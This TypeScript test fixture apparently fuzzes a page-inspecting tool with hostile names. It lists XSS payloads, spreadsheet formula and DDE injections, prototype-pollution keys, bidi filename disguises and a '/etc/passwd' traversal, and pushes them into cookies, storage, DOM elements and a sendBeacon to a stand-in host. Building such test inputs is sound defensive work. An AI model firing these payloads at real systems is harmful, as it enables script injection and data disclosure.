import type { Attack } from './attack';

/** Names and texts that would be something else if they were taken for more than text. */
export const strangeNames: readonly string[] = [
  ...[
    '<img src=x onerror=alert(1)>',
    '"><script>alert(1)</script>',
    "'onmouseover='alert(1)",
    '</title><svg onload=alert(1)>',
  ],
  ...['{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '&lt;b&gt;', '<!--', ']]>', 'javascript:alert(1)'],
  ...['=HYPERLINK("https://other.test")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '＝1+1', '=\u0001', ' =1'],
  ...[
    '\u202egnp.exe',
    '\u2066\u2067\u2068',
    'a\u0000b',
    'a\u0007\u001b[31m',
    'a\u2028b',
    '\u0085',
    '\ud800',
    'x\udc00y',
    '\u{1f600}',
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    'valueOf',
    'then',
    'length',
    'key',
    'null',
  ],
  ...['undefined', 'NaN', '', ' ', '{id}', '{count}', '../../../etc/passwd', '%00', '%', '*', '🏴‍☠️'.repeat(40)],
];

/** As it may stand in a script of a page. */
const inScript = (value: unknown): string => JSON.stringify(value).replaceAll('<', '\\u003c');

const everywhere = `
  const tries = (call) => { try { return call(); } catch (error) { note(error.name + ': ' + error.message); } };
  for (const name of ${inScript(strangeNames)}) {
    tries(() => { document.cookie = name + '=9d1f6c3042ab4e7d8b950c7e; max-age=9999'; });
    tries(() => { document.cookie = 'named=' + name + '; path=/' + name + '; domain=' + name; });
    tries(() => { cookieStore.set(name, name).catch(() => undefined); });
    for (const area of [localStorage, sessionStorage]) tries(() => area.setItem(name, name + '9d1f6c3042ab4e7d8b950c7e'));
    tries(() => { localStorage[name + ' '] = name; });
    tries(() => indexedDB.open(name));
    tries(() => { caches.open(name).catch(() => undefined); });
    tries(() => navigator.sendBeacon('https://receiver.test/' + name + '?' + encodeURIComponent(name) + '=9d1f6c3042ab4e7d8b950c7e', name));
    tries(() => { new Image().src = '/pixel.gif?' + name + '=' + name; });
    tries(() => { navigator.serviceWorker.register('/none.js?' + name, { scope: '/' + name }).catch(() => undefined); });
    tries(() => document.createElement('canvas').getContext('webgl')?.getExtension(name));
    tries(() => document.createElement('canvas').getContext('webgl')?.getParameter(name));
    tries(() => { navigator.permissions.query({ name }).catch(() => undefined); });
    tries(() => addEventListener(name, () => 0));
    tries(() => { window.name = name; });
    tries(() => { const context = document.createElement('canvas').getContext('2d'); context.font = '9px "' + name + '"'; context.measureText(name); });
    tries(() => {
      const link = document.createElement('a');
      link.href = 'https://other.test/' + name + '?' + name + '=9d1f6c3042ab4e7d8b950c7e';
      link.textContent = 'Privacy policy ' + name;
      const input = document.createElement('input');
      input.name = input.placeholder = input.autocomplete = input.type = name;
      const form = document.createElement('form');
      form.action = '/' + name; form.name = form.id = name;
      form.append(input);
      const image = document.createElement('img');
      image.alt = name; image.src = '/i.gif?' + name; image.width = image.height = 1;
      const frame = document.createElement('iframe');
      frame.name = name; frame.title = name; frame.hidden = true;
      document.body.append(link, form, image, frame);
    });
    document.title = name + ' ' + name;
  }
  document.title = ${inScript('<img src=x onerror=alert(1)>\u202e =1')};
`;

export const names: readonly Attack[] = [
  {
    id: 'markup',
    what: 'Names everything by what is markup, a formula, a disguise or a field of every object',
    last: everywhere,
    isShown: true,
    lastsMs: 2500,
  },
];
